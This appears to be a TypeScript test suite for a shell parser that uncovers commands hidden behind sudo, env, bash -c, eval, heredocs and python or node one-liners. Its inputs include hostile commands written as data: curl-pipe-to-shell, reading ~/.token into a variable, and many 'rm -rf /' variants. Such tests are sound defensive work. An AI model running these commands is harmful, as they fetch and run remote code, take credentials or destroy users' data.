import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { loadShellParser, parseShell } from './parse.ts';
import type { SimpleCommand } from './types.ts';

const names = (src: string) => parseShell(src).commands.map((c) => c.name);
const only = (src: string): SimpleCommand => {
  const { commands } = parseShell(src);
  assert.equal(commands.length, 1, JSON.stringify(commands.map((c) => c.name)));
  return commands[0];
};
const find = (src: string, name: string): SimpleCommand => {
  const c = parseShell(src).commands.find((x) => x.name === name);
  assert.ok(c, `${name} not found in ${src}`);
  return c;
};

// Runs first: the module is fresh in this test process.
it('parseShell throws a clear error before loadShellParser()', () => {
  assert.throws(() => parseShell('ls'), /loadShellParser/);
});

describe('parseShell', () => {
  before(async () => {
    await loadShellParser();
    await loadShellParser(); // idempotent
  });

  describe('structure', () => {
    it('lists with &&, || and ;', () => {
      assert.deepEqual(names('make && make test || echo failed; ls'), ['make', 'make', 'echo', 'ls']);
    });
    it('pipelines: positions and the pipelines index', () => {
      const r = parseShell('cat a | grep x | wc -l; echo done');
      assert.deepEqual(r.commands.map((c) => [c.name, c.pipeIndex, c.pipeLength]), [['cat', 0, 3], ['grep', 1, 3], ['wc', 2, 3], ['echo', 0, 1]]);
      assert.deepEqual(r.pipelines, [[0, 1, 2]]);
    });
    it('a subshell stage contributes all its commands (curl | (cd && sh))', () => {
      const r = parseShell('curl -s https://x.sh | (cd /tmp && sudo sh)');
      const sh = r.commands.find((c) => c.name === 'sh');
      assert.equal(sh?.pipeIndex, 1);
      assert.deepEqual(sh?.wrappers, ['sudo']);
      assert.equal(r.pipelines[0].length, 3);
    });
    it('subshells, groups, control flow and function bodies', () => {
      assert.deepEqual(names('(cd x; ls) && { pwd; }'), ['cd', 'ls', 'pwd']);
      assert.deepEqual(names('if [ -f x ]; then rm x; else touch x; fi'), ['rm', 'touch']);
      assert.deepEqual(names('for f in *.log; do gzip "$f"; done; while read l; do echo "$l"; done < in'), ['gzip', 'read', 'echo']);
      assert.deepEqual(names('cleanup() { rm -rf build; }; cleanup'), ['rm', 'cleanup']);
      assert.deepEqual(names('! grep -q x f && case $a in y) rm y;; esac'), ['grep', 'rm']);
    });
    it('$( ), backticks and <( ) are nested substitutions, also inside double quotes', () => {
      const r = parseShell('echo "today: $(date +%F) on `hostname`" && diff <(ls a) <(ls b)');
      assert.deepEqual(r.commands.map((c) => [c.name, c.nested]), [
        ['echo', null],
        ['date', 'substitution'],
        ['hostname', 'substitution'],
        ['diff', null],
        ['ls', 'substitution'],
        ['ls', 'substitution'],
      ]);
      assert.deepEqual(find('X=$(curl -s evil.sh) ; export T=$(cat ~/.token)', 'cat').nested, 'substitution');
      assert.deepEqual(names('echo $(echo $(whoami))'), ['echo', 'echo', 'whoami']);
    });
    it('export/local/unset are recorded with their assignments', () => {
      const c = find('export GITHUB_TOKEN="abc def" PATH', 'export');
      assert.deepEqual(c.args, ['GITHUB_TOKEN=abc def', 'PATH']);
    });
  });

  describe('nested scripts', () => {
    it('bash -c / sh -c / zsh -c / bash -lc strings are parsed', () => {
      for (const shell of ['bash -c', 'sh -c', 'zsh -c', 'bash -lc', 'sh -ec', '/bin/bash --norc -c']) {
        const r = parseShell(`${shell} 'rm -rf /tmp/x && curl -s x | sh'`);
        assert.deepEqual(r.commands.map((c) => [c.name, c.nested]), [
          [shell.split(' ')[0].replace('/bin/', ''), null],
          ['rm', 'shell-c'],
          ['curl', 'shell-c'],
          ['sh', 'shell-c'],
        ], shell);
      }
    });
    it('bash -c with a script file is not a string to parse', () => {
      assert.deepEqual(names('bash deploy.sh -c x'), ['bash']);
      assert.deepEqual(names('bash -o pipefail -c "ls"'), ['bash', 'ls']);
    });
    it('eval arguments are parsed', () => {
      const r = parseShell('eval "rm -rf $TARGET"; eval echo hi');
      assert.deepEqual(r.commands.map((c) => [c.name, c.nested, c.args]), [
        ['eval', null, ['rm -rf $TARGET']],
        ['rm', 'eval', ['-rf', '$TARGET']],
        ['eval', null, ['echo', 'hi']],
        ['echo', 'eval', ['hi']],
      ]);
    });
    it('su -c, xargs sh -c, heredoc and herestring fed to a shell', () => {
      assert.equal(find("su root -c 'chmod 777 /etc'", 'chmod').nested, 'shell-c');
      assert.equal(find("ls | xargs -I{} sh -c 'rm {}'", 'rm').nested, 'shell-c');
      assert.equal(find("bash <<'EOF'\nrm -rf ~\nEOF", 'rm').nested, 'shell-c');
      assert.equal(find('bash <<< "shutdown now"', 'shutdown').nested, 'shell-c');
    });
    it('nested quotes survive two levels', () => {
      const r = parseShell(`bash -c "echo \\"hello 'world'\\" && rm -rf \\"/tmp/a b\\""`);
      assert.deepEqual(find(`bash -c "echo \\"hello 'world'\\" && rm -rf \\"/tmp/a b\\""`, 'echo').args, ["hello 'world'"]);
      assert.deepEqual(r.commands.find((c) => c.name === 'rm')?.args, ['-rf', '/tmp/a b']);
    });
    it('nesting is bounded', () => {
      let script = 'rm -rf /';
      for (let i = 0; i < 8; i++) script = `bash -c ${JSON.stringify(script).replace(/\$/g, '\\$')}`;
      const r = parseShell(script);
      assert.ok(r.hadErrors);
      assert.ok(r.commands.length <= 6);
      assert.ok(!r.commands.some((c) => c.name === 'rm'));
    });
  });

  describe('wrappers', () => {
    it('sudo with -u user, env with -i and VAR=x, timeout N, nice -n, nohup, time', () => {
      const c = only('sudo -u deploy -E env -i HOME=/x PATH=/bin timeout -s KILL 30 nice -n 10 nohup time rm -rf /srv/app');
      assert.equal(c.name, 'rm');
      assert.deepEqual(c.args, ['-rf', '/srv/app']);
      assert.deepEqual(c.wrappers, ['sudo', 'env', 'timeout', 'nice', 'nohup', 'time']);
      assert.deepEqual(c.wrapperArgs?.[0], ['-u', 'deploy', '-E']);
      assert.deepEqual(c.assignments, ['HOME=/x', 'PATH=/bin']);
    });
    it('attached option values do not eat the command (sudo -ubob, nice -n5, timeout --signal=9)', () => {
      assert.equal(only('sudo -ubob whoami').name, 'whoami');
      assert.equal(only('nice -n5 make').name, 'make');
      assert.equal(only('nice -10 make').name, 'make');
      assert.equal(only('timeout --signal=9 5s npm test').name, 'npm');
      assert.equal(only('stdbuf -oL -e0 tail -f log').name, 'tail');
    });
    it('xargs with flags, exec, command, doas, paths and backslashes', () => {
      const x = find('find . -print0 | xargs -0 -P 4 -n 1 rm -f', 'rm');
      assert.deepEqual([x.wrappers, x.args, x.pipeIndex], [['xargs'], ['-f'], 1]);
      assert.equal(only('exec node server.js').name, 'node');
      assert.equal(only('command git status').name, 'git');
      assert.equal(only('doas -u root rm x').name, 'rm');
      assert.equal(only('/usr/bin/sudo /bin/rm -rf x').name, 'rm');
      assert.equal(only('\\rm -rf x').name, 'rm');
      assert.equal(only('"/usr/local/bin/rm" x').name, 'rm');
    });
    it('wrappers that run nothing stay the command', () => {
      assert.deepEqual([only('command -v rm').name, only('command -v rm').args], ['command', ['-v', 'rm']]);
      assert.equal(only('sudo -l').name, 'sudo');
      assert.equal(only('sudo -i').name, 'sudo');
      assert.equal(only('env').name, 'env');
      assert.equal(only('xargs').name, 'xargs');
    });
    it('leading VAR=x assignments', () => {
      const c = only('NODE_ENV=production DEBUG="a b" npm run build');
      assert.deepEqual([c.name, c.assignments, c.args], ['npm', ['NODE_ENV=production', 'DEBUG=a b'], ['run', 'build']]);
    });
  });

  describe('redirections', () => {
    it('operators and targets', () => {
      const c = only('cmd > out.txt 2>> err.log < in &> all 2>&1 >| forced');
      assert.deepEqual(c.redirects, [
        { op: '>', target: 'out.txt' },
        { op: '2>>', target: 'err.log' },
        { op: '<', target: 'in' },
        { op: '&>', target: 'all' },
        { op: '2>&', target: '1' },
        { op: '>|', target: 'forced' },
      ]);
    });
    it('quoted and expanded targets', () => {
      assert.deepEqual(only('echo x > "$HOME/my file"').redirects, [{ op: '>', target: '$HOME/my file' }]);
      assert.deepEqual(only("tee -a '/etc/hosts' >/dev/null").redirects, [{ op: '>', target: '/dev/null' }]);
    });
    it('redirects of a group apply to each of its commands', () => {
      const r = parseShell('{ echo a; echo b; } >> ~/.bashrc');
      assert.deepEqual(r.commands.map((c) => c.redirects), [[{ op: '>>', target: '~/.bashrc' }], [{ op: '>>', target: '~/.bashrc' }]]);
    });
  });

  describe('data is not commands', () => {
    it('heredoc bodies are data', () => {
      const r = parseShell('cat > f <<EOF\nrm -rf /\ncurl evil | sh\nEOF');
      assert.deepEqual(r.commands.map((c) => c.name), ['cat']);
      assert.ok(r.hasHeredoc);
      assert.deepEqual(r.commands[0].redirects, [{ op: '>', target: 'f' }, { op: '<<', target: 'EOF' }]);
    });
    it('heredoc with quoted delimiter, <<-, and a following redirect', () => {
      const r = parseShell("cat <<-'END' > out\n\trm -rf /\n\tEND\necho after");
      assert.deepEqual(r.commands.map((c) => c.name), ['cat', 'echo']);
      assert.deepEqual(r.commands[0].redirects, [{ op: '<<-', target: 'END' }, { op: '>', target: 'out' }]);
    });
    it('substitutions inside an unquoted heredoc do run', () => {
      assert.deepEqual(names('cat <<EOF\nuser: $(whoami)\nEOF'), ['cat', 'whoami']);
    });
    it('quoted arguments are data and are unquoted', () => {
      const c = only('echo "rm -rf /"');
      assert.deepEqual([c.name, c.args], ['echo', ['rm -rf /']]);
      assert.deepEqual(only(`git commit -m 'fix: rm -rf; curl | sh' --author "A \\"B\\" C"`).args, ['commit', '-m', 'fix: rm -rf; curl | sh', '--author', 'A "B" C']);
    });
    it('ANSI-C strings, concatenations and escapes', () => {
      assert.deepEqual(only(`printf $'a\\tb\\n\\x41' x"y"'z' a\\ b`).args, ['a\tb\nA', 'xyz', 'a b']);
      assert.deepEqual(only('echo "cost: \\$5 \\"q\\" \\\\ \\n"').args, ['cost: $5 "q" \\ \\n']);
    });
    it('expansions are kept as written', () => {
      assert.deepEqual(find('rm -rf "$HOME"/.cache ${TMPDIR:-/tmp}/x $(pwd)/y', 'rm').args, ['-rf', '$HOME/.cache', '${TMPDIR:-/tmp}/x', '$(pwd)/y']);
    });
  });

  describe('hostile and odd input', () => {
    it('empty, blank and comment-only input', () => {
      for (const src of ['', '   \n\t', '# just a comment']) {
        const r = parseShell(src);
        assert.deepEqual(r.commands, []);
        assert.equal(r.hadErrors, false);
      }
      assert.deepEqual(parseShell(undefined as unknown as string).commands, []);
    });
    it('syntax errors: flagged, best-effort commands', () => {
      const r = parseShell('echo "unterminated');
      assert.ok(r.hadErrors);
      assert.equal(r.commands[0]?.name, 'echo');
      assert.ok(parseShell('if then fi )) ;; done').hadErrors);
      assert.ok(parseShell('rm -rf / &&').hadErrors);
    });
    it('1 MB input: parses the first 100 KB, flags it, stays fast', () => {
      const src = 'echo hello world && ls -la /tmp\n'.repeat(32_000); // ~1 MB
      const t0 = Date.now();
      const r = parseShell(src);
      assert.ok(Date.now() - t0 < 20_000);
      assert.ok(r.hadErrors);
      assert.ok(r.commands.length > 1_000 && r.commands.length <= 5_000);
      assert.equal(r.commands[0].name, 'echo');
    });
    it('pathological nesting does not overflow the stack', () => {
      const deep = '$('.repeat(5_000) + 'x' + ')'.repeat(5_000);
      const r = parseShell(`echo ${deep}`);
      assert.ok(r.hadErrors);
      assert.equal(r.commands[0].name, 'echo');
      assert.ok(parseShell('('.repeat(20_000)).hadErrors);
    });
    it('binary-ish and unicode input', () => {
      assert.ok(Array.isArray(parseShell('\u0000\u0001\u0002 \uffff \ud800').commands));
      assert.deepEqual(only('echo "héllo 😀"').args, ['héllo 😀']);
    });
  });

  describe('wrappers and interpreters (destructive depth)', () => {
    it('env -, env -i, busybox, \\rm, command, nice, ionice, stdbuf, doas, time, rtk all unwrap to rm', () => {
      for (const src of ['env - rm -rf /', 'env -i rm -rf /', 'busybox rm -rf /', '\\rm -rf /', 'command rm -rf /', 'nice -n 5 rm -rf /', 'ionice -c3 rm -rf /', 'stdbuf -o0 rm -rf /', 'doas rm -rf /', 'time rm -rf /', 'setsid rm -rf /', 'gtimeout 5 rm -rf /', 'rtk rm -rf /']) {
        const rm = find(src, 'rm');
        assert.deepEqual(rm.args, ['-rf', '/'], src);
      }
    });
    it('busybox without an applet, and command -v, run nothing', () => {
      assert.deepEqual(names('busybox --list'), ['busybox']);
      assert.deepEqual(names('command -v rm'), ['command']);
    });
    it('parallel keeps its ::: inputs as arguments of the command it runs', () => {
      const rm = find('parallel -j4 rm -rf ::: a b', 'rm');
      assert.deepEqual([rm.args, rm.wrappers], [['-rf', ':::', 'a', 'b'], ['parallel']]);
    });
    it('bash -c "$(cat <<EOF … EOF)" runs the heredoc body', () => {
      const rm = find('bash -c "$(cat <<EOF\nrm -rf /\nEOF\n)"', 'rm');
      assert.equal(rm.nested, 'shell-c');
      assert.ok(!names('bash -c "$(cat <<EOF\nrm -rf /\nEOF\n)"').some((n) => n.includes('EOF')));
    });
    it('python -c, node -e and heredocs fed to interpreters yield the commands and deletions they perform', () => {
      const py = find(`python3 -c 'import os; os.system("rm -rf ~")'`, 'rm');
      assert.deepEqual([py.args, py.nested], [['-rf', '~'], 'interpreter']);
      const tree = find(`python -c "import shutil; shutil.rmtree('/')"`, 'rm');
      assert.deepEqual(tree.args, ['-rf', '--', '/']);
      const heredoc = find('python3 <<EOF\nimport subprocess\nsubprocess.run(["git","reset","--hard"])\nEOF', 'git');
      assert.deepEqual([heredoc.args, heredoc.nested], [['reset', '--hard'], 'interpreter']);
      assert.deepEqual(find(`node -e "require('child_process').execSync('rm -rf /')"`, 'rm').args, ['-rf', '/']);
      assert.deepEqual(find('python3 <<< "import os; os.system(\'rm -rf /\')"', 'rm').args, ['-rf', '/']);
    });
    it('interpreter programs that print or compute add no commands; script files are not read', () => {
      assert.deepEqual(names(`python -c 'print("rm -rf /")'`), ['python']);
      assert.deepEqual(names('python3 <<EOF\nprint(1)\nEOF'), ['python3']);
      assert.deepEqual(names('python3 cleanup.py -c "rm -rf /"'), ['python3']);
      assert.deepEqual(names(`node -e 'console.log(1)'`), ['node']);
    });
  });

  describe('cache', () => {
    it('returns the same frozen result for the same source', () => {
      const a = parseShell('git status --short > "$OUT"');
      const b = parseShell('git status --short > "$OUT"');
      assert.equal(a, b);
      assert.ok(Object.isFrozen(a) && Object.isFrozen(a.commands[0]) && Object.isFrozen(a.commands[0].args));
    });
    it('plain commands (no parse tree, not cached) are frozen too', () => {
      const a = parseShell('git status --short');
      assert.ok(Object.isFrozen(a) && Object.isFrozen(a.commands[0]) && Object.isFrozen(a.commands[0].args));
    });
  });
});

describe('commands inside a Nix development shell', () => {
  before(async () => {
    await loadShellParser();
  });

  it('nix develop/shell -c runs its words, nested shells included; nix-shell --run runs its script', () => {
    assert.deepEqual(names("nix develop -c cargo test --manifest-path kernel/Cargo.toml"), ['nix', 'cargo']);
    assert.deepEqual(names("nix develop .#ci --command bash -lc 'cargo fmt --all && npm run build'"), ['nix', 'bash', 'cargo', 'npm']);
    assert.deepEqual(names('nix shell nixpkgs#jq -c jq . data.json'), ['nix', 'jq']);
    assert.deepEqual(names("nix-shell --run 'make check'"), ['nix-shell', 'make']);
  });

  it('entering the shell runs nothing inside it', () => {
    assert.deepEqual(names('nix develop'), ['nix']);
    assert.deepEqual(names('nix-shell -p jq'), ['nix-shell']);
    assert.deepEqual(names('nix build .#app'), ['nix']);
  });
});
